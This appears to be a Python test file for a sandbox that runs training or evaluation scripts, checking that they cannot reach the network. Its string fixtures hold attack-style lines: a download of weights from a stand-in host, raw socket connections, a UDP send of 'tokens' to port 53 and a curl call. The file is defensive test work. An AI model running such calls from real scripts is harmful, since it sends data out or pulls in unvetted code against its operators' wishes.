"""A script fetches weights or data while it trains or evaluates, or sends something home."""

from __future__ import annotations

import socket
from typing import TYPE_CHECKING

from tests.attacks.whole_runs import HONEST

if TYPE_CHECKING:
    from tests.attacks.whole_runs import Victim

FETCHES = """
import socket, urllib.request
for action in (
    lambda: urllib.request.urlopen("http://192.0.2.1/weights.bin", timeout=5),
    lambda: socket.create_connection(("192.0.2.1", 443), timeout=5),
    lambda: socket.getaddrinfo("huggingface.co", 443),
    lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"tokens", ("192.0.2.1", 53)),
):
    try:
        action()
        print("REACHED")
    except OSError as error:
        print("no way:", error)
"""


def test_nothing_is_reached_and_each_attempt_is_told(victim: Victim) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        attacked = victim.run(HONEST + FETCHES.replace("PORT", str(port)))
    assert "REACHED" not in attacked.log
    assert attacked.log.count("no way:") == 5
    assert "no-network" in attacked.record.protections
    assert "192.0.2.1" in attacked.notices["socket"]


CALLS = """
import subprocess
try:
    print(subprocess.run(["curl", "-sm", "5", "http://192.0.2.1/"], check=False).returncode, "returned")
except OSError:
    pass
"""


def test_a_program_of_the_system_fetches_nothing_either(victim: Victim) -> None:
    attacked = victim.run(HONEST + CALLS)
    assert "0 returned" not in attacked.log.splitlines()
    assert "curl" in attacked.notices["process"]
